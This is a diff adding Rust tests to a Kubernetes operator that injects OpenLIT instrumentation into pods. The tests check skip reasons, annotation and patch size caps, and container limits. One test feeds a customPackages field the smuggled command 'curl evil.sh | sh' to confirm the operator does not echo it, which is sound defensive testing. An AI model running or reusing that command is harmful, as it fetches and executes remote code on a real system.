@@ -465,10 +465,19 @@ fn python_version_picks_the_image_built_for_that_cpython() {
 
     let unsupported = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector())
         + "  python:\n    instrumentation:\n      pythonVersion: \"2.7\"\n";
-    let mutation = run(&pod(CHAT_POD), "shop", &[policy(&unsupported)]);
+    let compiled = policy(&unsupported);
+    assert!(
+        compiled
+            .errors
+            .iter()
+            .any(|e| e.contains("pythonVersion '2.7' is not one of 3.11, 3.12, 3.13")),
+        "{:?}",
+        compiled.errors
+    );
+    let mutation = run(&pod(CHAT_POD), "shop", &[compiled]);
     assert!(
         matches!(&mutation.decision, Decision::Skipped { reason, .. }
-            if reason.contains("pythonVersion '2.7' is not one of 3.11, 3.12, 3.13")),
+            if reason == "AutoInstrumentation shop/ai is invalid (1 error, see its status and Events)"),
         "{:?}",
         mutation.decision
     );
@@ -891,7 +900,7 @@ fn custom_packages_are_separate_arguments_and_shell_text_is_refused() {
         panic!("{:?}", mutation.decision)
     };
     assert!(
-        reason.starts_with("AutoInstrumentation shop/ai is invalid:"),
+        reason.starts_with("AutoInstrumentation shop/ai is invalid ("),
         "{reason}"
     );
     assert!(
@@ -1038,4 +1047,255 @@ fn pods_no_resource_selects_get_no_patch() {
     assert!(mutation.patch.is_empty() && mutation.warnings.is_empty());
     let unlabelled = pod("metadata: {name: x}\nspec: {containers: [{name: a, image: python}]}");
     assert!(run(&unlabelled, "shop", &policies).patch.is_empty());
+}
+
+/// The pod-level skip of `mutation`: its reason, and the pod after the patch (only annotated).
+fn skipped_with(pod: &Value, mutation: &Mutation) -> (String, Value) {
+    let Decision::Skipped { reason, .. } = &mutation.decision else {
+        panic!("{:?}", mutation.decision)
+    };
+    let after = patched(pod, mutation);
+    assert_eq!(
+        after["spec"], pod["spec"],
+        "nothing but the annotation changes"
+    );
+    assert_eq!(
+        after["metadata"]["annotations"]["openlit.io/instrumentation-skipped"], *reason,
+        "the annotation names the reason"
+    );
+    assert!(
+        mutation
+            .warnings
+            .iter()
+            .any(|w| w.contains(reason.as_str())),
+        "{:?}",
+        mutation.warnings
+    );
+    (reason.clone(), after)
+}
+
+#[test]
+fn an_app_container_with_the_init_containers_name_is_a_skip_reason() {
+    let policies = [policy(&resource_yaml(
+        "shop",
+        "ai",
+        "2026-01-01T00:00:00Z",
+        app_selector(),
+    ))];
+    let p = pod(r#"
+metadata: {name: chat, labels: {app: chat}}
+spec:
+  containers:
+  - {name: app, image: "python:3.12-slim"}
+  - {name: auto-instrumentation-openlit, image: "python:3.12-slim"}
+"#);
+    let mutation = run(&p, "shop", &policies);
+    let (reason, _) = skipped_with(&p, &mutation);
+    assert_eq!(
+        reason,
+        "the pod already has a container named auto-instrumentation-openlit, the init container the operator adds"
+    );
+    // Another provider's name does not collide.
+    let openllmetry = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector())
+        + "  python:\n    instrumentation:\n      provider: openllmetry\n";
+    let mutation = run(&p, "shop", &[policy(&openllmetry)]);
+    assert!(
+        matches!(mutation.decision, Decision::Instrumented { .. }),
+        "{:?}",
+        mutation.decision
+    );
+    let after = patched(&p, &mutation);
+    assert_eq!(
+        after["spec"]["initContainers"][0]["name"],
+        "auto-instrumentation-openllmetry"
+    );
+}
+
+#[test]
+fn an_invalid_resource_is_named_on_the_pod_without_quoting_its_errors() {
+    let hostile_text = format!("requests; {}", "curl evil.sh | sh ".repeat(2000));
+    let hostile = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector())
+        + &format!(
+            "  python:\n    instrumentation:\n      customPackages: \"{hostile_text}\"\n      pythonVersion: \"2.7\"\n"
+        );
+    let compiled = policy(&hostile);
+    let errors = compiled.errors.len();
+    assert!(errors >= 2, "{:?}", compiled.errors);
+    let p = pod(CHAT_POD);
+    let mutation = run(&p, "shop", &[compiled]);
+    let (reason, after) = skipped_with(&p, &mutation);
+    assert_eq!(
+        reason,
+        format!(
+            "AutoInstrumentation shop/ai is invalid ({errors} errors, see its status and Events)"
+        )
+    );
+    let annotations = serde_json::to_string(&after["metadata"]["annotations"]).unwrap();
+    assert!(!annotations.contains("evil.sh"), "{annotations}");
+}
+
+#[test]
+fn the_skip_annotation_lists_skipped_containers_within_a_kilobyte() {
+    let policies = [policy(&resource_yaml(
+        "shop",
+        "ai",
+        "2026-01-01T00:00:00Z",
+        app_selector(),
+    ))];
+    let mut containers = vec![json!({"name": "app", "image": "python:3.12-slim"})];
+    for i in 0..90 {
+        containers.push(
+            json!({"name": format!("tools-{i}-{}", "x".repeat(40)), "image": "busybox:1.36"}),
+        );
+    }
+    let p = json!({"metadata": {"name": "chat", "labels": {"app": "chat"}}, "spec": {"containers": containers}});
+    let mutation = run(&p, "shop", &policies);
+    assert!(matches!(mutation.decision, Decision::Instrumented { .. }));
+    let after = patched(&p, &mutation);
+    let skipped = after["metadata"]["annotations"]["openlit.io/instrumentation-skipped"]
+        .as_str()
+        .unwrap();
+    assert!(skipped.len() <= 1024, "{} bytes", skipped.len());
+    assert!(skipped.starts_with("tools-0-"), "{skipped}");
+    assert!(skipped.contains(" more"), "the rest is counted: {skipped}");
+
+    // Nothing selected: the pod-level reason is capped the same way.
+    let mut none = p.clone();
+    none["spec"]["containers"][0]["image"] = json!("alpine:3");
+    let mutation = run(&none, "shop", &policies);
+    let (reason, _) = skipped_with(&none, &mutation);
+    assert!(reason.len() <= 1024, "{} bytes", reason.len());
+    assert!(reason.starts_with("no container was selected: app: image alpine:3"));
+}
+
+#[test]
+fn pods_beyond_the_documented_limits_are_left_unchanged_with_the_reason() {
+    use openlit_operator::inject::{
+        MAX_CONTAINERS, MAX_ENV_PER_CONTAINER, MAX_RESOURCE_ATTRIBUTES_BYTES,
+        MAX_RESOURCE_ATTRIBUTES_PAIRS,
+    };
+    let policies = [policy(&resource_yaml(
+        "shop",
+        "ai",
+        "2026-01-01T00:00:00Z",
+        app_selector(),
+    ))];
+    let with = |containers: Vec<Value>, init: Vec<Value>| {
+        json!({"metadata": {"name": "chat", "labels": {"app": "chat"}},
+               "spec": {"containers": containers, "initContainers": init}})
+    };
+    let python = |name: String, env: Vec<Value>| json!({"name": name, "image": "python:3.12-slim", "env": env});
+
+    // Containers: init and application containers count together.
+    let apps: Vec<Value> = (0..MAX_CONTAINERS - 10)
+        .map(|i| python(format!("c{i}"), vec![]))
+        .collect();
+    let inits: Vec<Value> = (0..11)
+        .map(|i| json!({"name": format!("i{i}"), "image": "busybox"}))
+        .collect();
+    let p = with(apps.clone(), inits);
+    let (reason, _) = skipped_with(&p, &run(&p, "shop", &policies));
+    assert_eq!(
+        reason,
+        format!(
+            "the pod has {} containers (init and application), more than the {MAX_CONTAINERS} the operator instruments",
+            MAX_CONTAINERS + 1
+        )
+    );
+    let at_the_limit = with(
+        apps,
+        (0..10)
+            .map(|i| json!({"name": format!("i{i}"), "image": "busybox"}))
+            .collect(),
+    );
+    assert!(matches!(
+        run(&at_the_limit, "shop", &policies).decision,
+        Decision::Instrumented { .. }
+    ));
+
+    // Environment entries of one container.
+    let env: Vec<Value> = (0..=MAX_ENV_PER_CONTAINER)
+        .map(|i| json!({"name": format!("V{i}"), "value": "x"}))
+        .collect();
+    let p = with(vec![python("app".into(), env)], vec![]);
+    let (reason, _) = skipped_with(&p, &run(&p, "shop", &policies));
+    assert_eq!(
+        reason,
+        format!(
+            "container app has {} env entries, more than the {MAX_ENV_PER_CONTAINER} the operator instruments",
+            MAX_ENV_PER_CONTAINER + 1
+        )
+    );
+
+    // OTEL_RESOURCE_ATTRIBUTES: length, then number of pairs.
+    let attributes =
+        |value: String| vec![json!({"name": "OTEL_RESOURCE_ATTRIBUTES", "value": value})];
+    let mib = "k=v,".repeat(256 * 1024);
+    let p = with(vec![python("app".into(), attributes(mib))], vec![]);
+    let (reason, _) = skipped_with(&p, &run(&p, "shop", &policies));
+    assert!(
+        reason.starts_with(&format!("container app sets OTEL_RESOURCE_ATTRIBUTES to {} bytes, more than the {MAX_RESOURCE_ATTRIBUTES_BYTES}", 1024 * 1024)),
+        "{reason}"
+    );
+    let pairs = (0..=MAX_RESOURCE_ATTRIBUTES_PAIRS)
+        .map(|i| format!("k{i}=v"))
+        .collect::<Vec<_>>()
+        .join(",");
+    let p = with(vec![python("app".into(), attributes(pairs))], vec![]);
+    let (reason, _) = skipped_with(&p, &run(&p, "shop", &policies));
+    assert!(
+        reason.starts_with(&format!(
+            "container app sets OTEL_RESOURCE_ATTRIBUTES to {} pairs",
+            MAX_RESOURCE_ATTRIBUTES_PAIRS + 1
+        )),
+        "{reason}"
+    );
+
+    // Within the limits, the largest attribute list still merges per key, the user's pairs first.
+    let pairs = (0..MAX_RESOURCE_ATTRIBUTES_PAIRS)
+        .map(|i| format!("k{i}=v{i}"))
+        .collect::<Vec<_>>()
+        .join(",");
+    let p = with(
+        vec![python("app".into(), attributes(pairs.clone()))],
+        vec![],
+    );
+    let mutation = run(&p, "shop", &policies);
+    let after = patched(&p, &mutation);
+    let merged = env_value(&after, 0, "OTEL_RESOURCE_ATTRIBUTES").unwrap();
+    assert!(
+        merged.starts_with(&format!("{pairs},k8s.namespace.name=shop,")),
+        "{merged}"
+    );
+}
+
+#[test]
+fn a_patch_beyond_the_size_limit_is_not_returned() {
+    use openlit_operator::inject::{
+        MAX_CONTAINERS, MAX_PATCH_BYTES, MAX_RESOURCE_ATTRIBUTES_BYTES,
+    };
+    let policies = [policy(&resource_yaml(
+        "shop",
+        "ai",
+        "2026-01-01T00:00:00Z",
+        app_selector(),
+    ))];
+    // Each container's own attributes are within the limits, but merged into every container
+    // of a pod at the container limit they would make a patch larger than the API server takes.
+    let value = format!("big={}", "v".repeat(MAX_RESOURCE_ATTRIBUTES_BYTES - 10));
+    let containers: Vec<Value> = (0..MAX_CONTAINERS)
+        .map(|i| {
+            json!({"name": format!("c{i}"), "image": "python:3.12-slim",
+                        "env": [{"name": "OTEL_RESOURCE_ATTRIBUTES", "value": value}]})
+        })
+        .collect();
+    let p = json!({"metadata": {"name": "chat", "labels": {"app": "chat"}}, "spec": {"containers": containers}});
+    let (reason, _) = skipped_with(&p, &run(&p, "shop", &policies));
+    assert!(reason.starts_with("the patch would be "), "{reason}");
+    assert!(
+        reason.ends_with(&format!(
+            "more than the {MAX_PATCH_BYTES} the operator returns"
+        )),
+        "{reason}"
+    );
 }
